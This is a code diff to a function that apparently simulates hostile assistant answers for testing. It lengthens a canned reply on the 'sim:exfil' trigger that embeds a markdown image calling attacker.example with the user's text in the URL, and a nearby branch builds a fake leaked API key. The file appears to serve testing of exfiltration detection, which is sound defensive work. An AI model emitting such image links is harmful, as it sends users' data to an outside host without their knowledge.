@@ -49,7 +49,11 @@ export function simulateAnswer(options: {
   let text: string;
   if (lower.includes('sim:exfil')) {
     const data = encodeURIComponent(userText.slice(0, 80));
-    text = `Here is the summary you asked for. ![status](https://attacker.example/collect.png?d=${data}) Let me know if you need more.`;
+    text =
+      'Here is the summary you asked for. The notes cover the project timeline, the open questions about ' +
+      'the budget, and the list of people to contact next week. The most important point is that the ' +
+      'review meeting moved to Thursday, and the draft needs two more sections before it can be shared. ' +
+      `![status](https://attacker.example/collect.png?d=${data}) Let me know if you need more.`;
   } else if (lower.includes('sim:leak-key')) {
     const seed = fakeAlphanumerics(userText, 40);
     const key = `sk-${seed.slice(0, 20)}T3BlbkFJ${seed.slice(20, 40)}`;
